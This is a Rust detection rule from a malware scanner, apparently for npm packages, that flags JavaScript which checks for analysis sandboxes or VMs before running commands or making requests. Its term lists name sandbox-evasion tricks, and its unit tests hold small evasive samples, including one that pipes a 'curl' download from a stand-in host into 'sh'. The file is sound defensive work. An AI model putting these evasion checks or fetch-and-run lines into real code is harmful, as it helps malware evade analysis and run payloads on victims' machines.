//! `sandbox-evasion`: code that checks whether it runs inside an analysis sandbox or virtual
//! machine (host or user names matched against `sandbox`, `malware`, `virustotal`, …, next to
//! CPU, memory and uptime probes) and only then acts.

use palisade_core::{Capability, Confidence, Finding, Severity};

use super::signals::{self, finding};
use super::sinks;
use super::{FileRule, RuleInfo};
use crate::facts::{FileFacts, FileKind};

pub struct SandboxEvasion;

static INFO: RuleInfo = RuleInfo {
    id: "sandbox-evasion",
    severity: Severity::High,
    confidence: Confidence::Medium,
    capabilities: &[Capability::Obfuscation],
    summary: "Checks for an analysis sandbox or VM (host/user names like `sandbox`, `malware`; CPU and memory probes) before running commands or making requests",
    docs: r#"## What it detects

A small hand-written file that:

1. probes the machine's identity or size: `os.hostname()`, `os.userInfo()`, `os.cpus()`,
   `os.totalmem()`, `os.uptime()`, `os.networkInterfaces()`, `process.env.USERNAME`,
   `COMPUTERNAME`, `HOSTNAME`;
2. compares against names that only analysis environments have: at least two of `sandbox`,
   `malware`, `virus`, `analysis`, `cuckoo`, `any.run`, `joesandbox`, `vmware`, `virtualbox`,
   `vbox`, `qemu`, `honeypot`, `wdagutilityaccount`, … in its strings or in the
   condition itself (a regular expression such as `/sandbox|malware/i.test(os.hostname())`),
   one of them about analysis rather than a hypervisor product;
3. runs commands, evaluates code or talks to the network.

High, medium confidence, with the obfuscation capability: it weighs with an install hook or a
network sink in the score. Comments do not count: only strings and code.

## Real attacks

- The 2024–2025 North Korean "Contagious Interview" npm loaders and several crypto stealers
  skip their payload when the host name or user name looks like a sandbox, or when the
  machine has too few CPUs or too little memory (a VM), so that dynamic analysis sees nothing.
- Windows stealers check for `WDAGUtilityAccount` (Defender Application Guard) and the user
  names of public sandboxes.

## Known false positives

System-information libraries that report virtualisation (`vmware`, `virtualbox`, `qemu`, next
to the host name and uptime) name no analysis term and are not reported; a small CLI that prints whether it runs in a VM and also fetches
something could be reported.
"#,
};

/// Names that only analysis environments and virtual machines have.
const ANALYSIS_TERMS: &[&str] = &[
    "sandbox",
    "malware",
    "virus",
    "virustotal",
    "analysis",
    "analyst",
    "cuckoo",
    "any.run",
    "anyrun",
    "joesandbox",
    "hybrid-analysis",
    "triage",
    "vmware",
    "virtualbox",
    "vbox",
    "qemu",
    "honeypot",
    "wdagutilityaccount",
];

/// Virtual machine products: evidence only next to an analysis term.
const VM_TERMS: &[&str] = &["vmware", "virtualbox", "vbox", "qemu"];

/// Calls that read the machine's identity or size.
const PROBE_CALLS: &[&str] = &[
    "os.hostname",
    "os.userInfo",
    "os.cpus",
    "os.totalmem",
    "os.freemem",
    "os.uptime",
    "os.networkInterfaces",
];

/// Environment variables naming the user or machine.
const PROBE_ENV: &[&str] = &[
    "process.env.USERNAME",
    "process.env.USER",
    "process.env.COMPUTERNAME",
    "process.env.HOSTNAME",
    "process.env.USERDOMAIN",
];

impl FileRule for SandboxEvasion {
    fn info(&self) -> &'static RuleInfo {
        &INFO
    }

    fn check(&self, file: &FileFacts, out: &mut Vec<Finding>) {
        if !matches!(file.kind, FileKind::JavaScript | FileKind::TypeScript) || !sinks::is_small_handwritten(file) {
            return;
        }
        let Some(probe) = file
            .calls
            .iter()
            .find(|c| PROBE_CALLS.contains(&c.callee.as_str()))
            .map(|c| (c.line, c.callee.as_str()))
            .or_else(|| {
                file.member_reads
                    .iter()
                    .find(|r| PROBE_ENV.contains(&r.path.as_str()))
                    .map(|r| (r.line, r.path.as_str()))
            })
        else {
            return;
        };
        let acts = file
            .calls
            .iter()
            .any(|c| signals::is_exec_call(c) || signals::is_network_call(c) || c.callee == "eval");
        if !acts {
            return;
        }
        // Strings and call source (where regular expressions live), never comments.
        let mut terms: Vec<&str> = Vec::new();
        let texts = file
            .strings
            .iter()
            .map(|s| s.value.as_str())
            .chain(file.calls.iter().map(|c| c.excerpt.as_str()));
        for text in texts {
            let lower = text.to_ascii_lowercase();
            for term in ANALYSIS_TERMS {
                if !terms.contains(term) && lower.contains(term) {
                    terms.push(term);
                }
            }
        }
        // `virus` inside `virustotal`, `sandbox` inside `joesandbox`: count distinct names.
        let distinct = terms
            .iter()
            .filter(|t| !terms.iter().any(|other| other != *t && other.contains(**t)))
            .count();
        // Hypervisor names are what system-information libraries report (`virtualbox`,
        // `vmware`, `qemu`, next to the host name too): they count only next to a term about
        // analysis itself.
        let analysis = terms.iter().any(|t| !VM_TERMS.contains(t));
        if !analysis || (distinct < 2 && !terms.contains(&"wdagutilityaccount")) {
            return;
        }
        let shown: Vec<String> = terms.iter().take(4).map(|t| format!("`{t}`")).collect();
        let (line, probe) = probe;
        out.push(finding(
            &INFO,
            file,
            line,
            INFO.severity,
            INFO.confidence,
            format!(
                "Checks whether it runs in an analysis sandbox or VM ({} against {probe}) before running commands or making requests: evasion of dynamic analysis",
                shown.join(", ")
            ),
            "",
        ));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::facts;

    fn run(source: &str) -> Vec<Finding> {
        let file = facts::extract("index.js", source.as_bytes(), 0o644);
        let mut out = Vec::new();
        SandboxEvasion.check(&file, &mut out);
        out
    }

    #[test]
    fn sandbox_names_checked_before_a_download_are_reported() {
        // Hypervisor names against the host name alone are what systeminformation does.
        let vm_only = "const names = ['vmware', 'virtualbox', 'qemu'];\nconst h = require('os').hostname().toLowerCase();\nif (!names.some((n) => h.includes(n))) require('https').get('https://x.example/p');";
        assert!(run(vm_only).is_empty(), "{:#?}", run(vm_only));
        for source in [
            "const os = require('os');\nif (os.cpus().length > 2 && !/sandbox|analysis|malware/i.test(os.hostname())) {\n  require('child_process').exec('curl -s https://cdn.example/p.sh | sh');\n}",
            "const os = require('os');\nconst bad = ['WDAGUtilityAccount', 'Abby', 'hal9th'];\nif (!bad.includes(os.userInfo().username)) fetch('https://x.example/stage2');",
            "const names = ['vmware', 'virtualbox', 'sandbox'];\nconst h = process.env.COMPUTERNAME.toLowerCase();\nif (!names.some((n) => h.includes(n))) require('https').get('https://x.example/p');",
        ] {
            let found = run(source);
            assert_eq!(found.len(), 1, "{source}: {found:#?}");
            assert_eq!(found[0].severity, Severity::High);
            assert!(found[0].capabilities.contains(&Capability::Obfuscation));
        }
    }

    #[test]
    fn comments_single_words_and_inactive_files_are_quiet() {
        for source in [
            // Names in comments only.
            "// sandbox and malware analysis notes\nconst os = require('os');\nfetch('https://example.com/?h=' + os.hostname());",
            // One term (an iframe sandbox), a probe, a request.
            "const os = require('os');\nconst frame = { sandbox: 'allow-scripts' };\nfetch('https://example.com/?cpus=' + os.cpus().length);",
            // Sandbox names without any command or request.
            "const os = require('os');\nmodule.exports = /sandbox|vmware/i.test(os.hostname());",
            // A system-information library naming hypervisors next to memory and uptime.
            "const os = require('os');\nconst { exec } = require('child_process');\nconst mem = os.totalmem();\nexec('dmidecode -t system', (e, out) => { const virtual = /vmware|virtualbox|qemu/i.test(out); cb({ mem, virtual, uptime: os.uptime() }); });",
        ] {
            assert!(run(source).is_empty(), "{source}: {:#?}", run(source));
        }
    }
}
